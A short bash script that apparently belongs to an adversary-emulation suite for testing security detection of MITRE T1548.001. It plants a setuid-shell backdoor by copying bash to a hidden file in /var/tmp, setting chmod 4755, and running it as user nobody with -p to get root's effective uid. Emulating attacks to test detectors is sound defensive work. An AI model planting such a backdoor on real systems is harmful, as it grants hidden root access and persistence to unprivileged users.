#!/bin/bash
# vigil-emulation: attack
# technique: T1548.001 Abuse Elevation Control Mechanism: Setuid and Setgid
# tactic: privilege-escalation, persistence
# what: the setuid-shell backdoor: copies /bin/bash to a hidden file under /var/tmp, sets
#   its set-uid bit (chmod 4755), then an unprivileged user (nobody, via setpriv) runs it
#   with -p and gets euid 0 (`id`); removed at the end.
# report: the set-uid bit set on a copy of a shell in a world-writable directory, and that
#   shell executed by an unprivileged user with root's effective uid.
# expect: setuid|set-uid|suid
. "${EMUL_LIB:-$(dirname "$0")/../lib}/common.sh"
emul_need setpriv

emul_tmpdir /var/tmp
chmod 755 "$EMUL_DIR"
cp /bin/bash "$EMUL_DIR/.sh"
chmod 4755 "$EMUL_DIR/.sh"
setpriv --reuid=nobody --regid=nogroup --clear-groups "$EMUL_DIR/.sh" -p -c 'id'
